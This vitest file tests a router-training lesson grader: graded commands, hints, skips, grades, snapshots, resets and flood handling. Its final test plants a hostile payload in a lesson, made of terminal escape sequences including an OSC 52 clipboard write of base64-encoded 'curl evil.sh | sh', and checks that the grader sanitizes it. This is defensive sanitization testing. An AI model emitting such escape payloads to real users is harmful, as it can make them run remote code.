// The class server's per-trainee grader (features/lessons/grader.ts) on the lesson engine,
// against a real router simulator: each of the trainee's commands graded into the contract's
// LineAnswer (every check's verdict, the lesson's message on failure, warnings that never hold a
// step back), hints and skips counted, the board's state and the grades (the documented rule),
// a snapshot that survives a restart, a reset to a lesson's start; a failed command grades nothing.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createGrader, type Grader, MAX_PENDING } from '../../../src/features/lessons/grader.js';
import { parseLesson } from '../../../src/features/lessons/parse.js';
import type { Lesson } from '../../../src/features/lessons/types.js';
import { lessonRig, memoryStore, type Rig } from './lesson-rig.js';

let rig: Rig;
let interfaces: Lesson;
let extra: Lesson;
beforeAll(async () => {
  rig = await lessonRig();
  interfaces = memoryStore(new Map()).load('interfaces');
  const r = parseLesson(
    'extra',
    `---\ntitle: Extra\n---\n## MTU of eth0\ncheck: read "show interface" json 'NodeInfo.ShowOutput[Name=eth0].MTU' < 1400 message "eth0's MTU is still above 1400" wait 1s retries 1\ncheck: read "show interface" json 'NodeInfo.ShowOutput[Name=eth0].State' = DOWN level warning message "eth0 is up"\n`,
  );
  if (!('lesson' in r)) throw new Error(JSON.stringify(r.issues));
  extra = r.lesson;
});
afterAll(async () => {
  await rig?.close();
});

/** The trainee's command: run on their router, then graded on the server. */
const line = async (g: Grader, text: string, resolved?: string) => {
  const { outcome } = await rig.run(text);
  const ok = outcome.kind !== 'error';
  return g.afterLine({ line: text, ok, ...(resolved ? { resolved } : {}) }, AbortSignal.timeout(30_000));
};

it('grades a trainee through a lesson: verdicts, messages, hints, skips, state, grades, snapshot, reset', async () => {
  let clock = Date.parse('2026-12-04T15:00:00Z');
  const now = () => clock;
  const g = createGrader({ lessons: [interfaces, extra], deps: rig.session.services, now });
  expect(g.where()).toMatchObject({ lesson: 'interfaces', lessonIndex: 0, step: 0 });
  expect(g.where().text).toMatch(/^Step 1\/5: Create a VLAN interface/);

  clock += 30_000;
  const one = await line(g, 'interface eth1.100');
  expect(one.checks).toEqual([{ check: 'node interface eth1.100 present', ok: true, level: 'error' }]);
  expect(one).toMatchObject({ lesson: 'interfaces', step: 1 });
  expect(one.note).toMatch(/step 1\/5 done/);
  expect(one.status).toMatch(/^lesson interfaces 2\/5: Set its MTU/);

  // A command that leaves the step undone: each check's verdict, the lesson's message printed.
  const two = await line(g, 'show interface eth1.100');
  expect(two.step).toBe(1);
  expect(two.checks).toEqual([
    {
      check: 'value interface eth1.100 mtu = 9000',
      ok: false,
      level: 'error',
      message: "'9000' is not configured there",
    },
    {
      check: `read "show interface eth1.100" regex 'mtu (\\d+)' = 9000 message "show interface eth1.100 does not say mtu 9000 yet"`,
      ok: false,
      level: 'error',
      message: 'show interface eth1.100 does not say mtu 9000 yet',
    },
  ]);
  expect(two.note).toBe('x show interface eth1.100 does not say mtu 9000 yet\n');
  expect(g.state().steps).toEqual(['done', 'failed', 'todo', 'todo', 'todo']);

  // A failed command grades nothing.
  const failed = await g.afterLine(
    { line: 'interface eth1.100 mtu 99999', ok: false, error: 'bad' },
    AbortSignal.timeout(30_000),
  );
  expect(failed.checks).toEqual([]);

  expect(g.hint().note).toContain('interface eth1.100 mtu 9000');
  clock += 60_000;
  const passed = await line(g, 'interface eth1.100 mtu 9000');
  expect(passed.checks.every((c) => c.ok)).toBe(true);
  expect(passed.step).toBe(2);
  expect(g.skip().note).toMatch(/step 3 skipped/);
  // `ran` checks take the line as the client resolved it.
  const four = await line(g, 'sh int eth1.100', 'show interface eth1.100');
  expect(four.checks).toEqual([{ check: 'ran ^show interface eth1\\.100$', ok: true, level: 'error' }]);

  const state = g.state();
  expect(state).toMatchObject({
    lesson: 'interfaces',
    lessonIndex: 0,
    steps: ['done', 'done', 'skipped', 'done', 'current'],
    hints: [false, true, false, false, false],
    current: 4,
    stepSince: new Date(clock).toISOString(),
  });
  const grades = g.grades();
  expect(grades[0]?.steps.map((s) => [s.passed, s.skipped, s.hint, s.seconds, s.failedChecks])).toEqual([
    [true, false, false, 30, 0],
    [true, false, true, 60, 2],
    [false, true, false, 0, 0],
    [true, false, false, 0, 0],
    [false, false, false, 0, 0],
  ]);
  // Passed 1, passed after the hint 1/2, skipped or not reached 0: 2.5 of 5.
  expect(grades[0]?.percent).toBe(50);
  expect(grades[1]).toMatchObject({ lesson: 'extra', percent: 0 });

  // A restart: the snapshot (JSON, as --state keeps it) gives the same trainee back.
  const again = createGrader({
    lessons: [interfaces, extra],
    deps: rig.session.services,
    now,
    saved: JSON.parse(JSON.stringify(g.snapshot())),
  });
  expect(again.state()).toEqual(state);
  expect(again.grades()).toEqual(grades);
  expect(again.where().step).toBe(4);
  const five = await line(again, 'no interface eth1.100');
  expect(five.note).toMatch(/Lesson interfaces complete/);
  expect(again.state().steps).toEqual(['done', 'done', 'skipped', 'done', 'done']);

  // The next lesson at step 1: a read check that waits, a warning that informs.
  const next = again.resetTo(1);
  expect(next).toMatchObject({ lesson: 'extra', step: 0 });
  const started = Date.now();
  const mtu = await line(again, 'show interface');
  expect(Date.now() - started).toBeGreaterThanOrEqual(900); // waited (1 s, one retry) for the check
  expect(mtu.checks.map((c) => [c.ok, c.level, c.message])).toEqual([
    [false, 'error', "eth0's MTU is still above 1400"],
    [false, 'warning', 'eth0 is up'],
  ]);
  const done = await line(again, 'interface eth0 mtu 1300');
  expect(done.checks.map((c) => [c.ok, c.level])).toEqual([
    [true, 'error'],
    [false, 'warning'],
  ]);
  expect(done.note).toMatch(/step 1\/1 done/);
  expect(() => again.resetTo(2)).toThrow(/no lesson 3 in this class/);
  // A saved file that does not fit the lessons gives a fresh start, not a crash.
  const odd = createGrader({
    lessons: [interfaces],
    deps: rig.session.services,
    saved: { lessonIndex: 9, records: { interfaces: [{ state: 'weird' }] } } as never,
  });
  expect(odd.state()).toMatchObject({
    lessonIndex: 0,
    current: 0,
    steps: ['current', 'todo', 'todo', 'todo', 'todo'],
  });
}, 120_000);

it("the lesson's own commands (hint, skip, lesson) count no failed check; a read that leaves the step undone does", async () => {
  const g = createGrader({ lessons: [interfaces], deps: rig.session.services, now: () => 0 });
  for (const own of ['hint', 'lesson', 'learn interfaces']) {
    const a = await g.afterLine({ line: own, ok: true, resolved: own }, AbortSignal.timeout(30_000));
    expect(
      a.checks.some((c) => !c.ok),
      own,
    ).toBe(true);
  }
  expect(g.state().steps[0]).toBe('current');
  expect(g.grades()[0]?.steps[0]?.failedChecks).toBe(0);
  // `skip` moves to step 2 first (its own call); the line reported after it is graded there.
  g.skip();
  await g.afterLine({ line: 'skip', ok: true, resolved: 'skip' }, AbortSignal.timeout(30_000));
  expect(g.grades()[0]?.steps[1]?.failedChecks).toBe(0);
  await line(g, 'show interface');
  expect(g.grades()[0]?.steps[1]?.failedChecks).toBeGreaterThan(0);
  expect(g.state().steps[1]).toBe('failed');
});

it('a client that floods commands: graded one at a time, past a few waiting the rest answered ungraded', async () => {
  const g = createGrader({ lessons: [interfaces], deps: rig.session.services });
  const answers = await Promise.all(
    Array.from({ length: 40 }, () =>
      g.afterLine({ line: 'show interface', ok: true }, AbortSignal.timeout(30_000)),
    ),
  );
  const graded = answers.filter((a) => a.checks.length > 0);
  expect(graded.length).toBeGreaterThanOrEqual(1);
  expect(graded.length).toBeLessThanOrEqual(MAX_PENDING);
  for (const a of answers) expect(a).toMatchObject({ lesson: 'interfaces', step: 0 });
  // Then the trainee's next command is graded as usual.
  expect((await line(g, 'interface eth1.200')).checks).toEqual([
    {
      check: 'node interface eth1.100 present',
      ok: false,
      level: 'error',
      message: "'eth1.100' is not configured",
    },
  ]);
}, 60_000);

it('a hostile lesson: its check text and message reach the verdicts and notes sanitized', async () => {
  const EVIL = '\u001b[2J\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\u009b31m\u202e';
  const r = parseLesson(
    'evil',
    `---\ntitle: Evil\n---\n## S\ncheck: read "show interface" json 'NodeInfo.ShowOutput[0].Name' = "x${EVIL}" message "gone ${EVIL}"\n`,
  );
  if (!('lesson' in r)) throw new Error(JSON.stringify(r.issues));
  const g = createGrader({ lessons: [r.lesson], deps: rig.session.services });
  const a = await line(g, 'show interface');
  expect(a.checks).toHaveLength(1);
  expect(a.checks[0]?.ok).toBe(false);
  expect(a.checks[0]?.message).toMatch(/^gone /);
  for (const text of [a.note, a.checks[0]?.check ?? '', a.checks[0]?.message ?? ''])
    expect(text).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
}, 60_000);
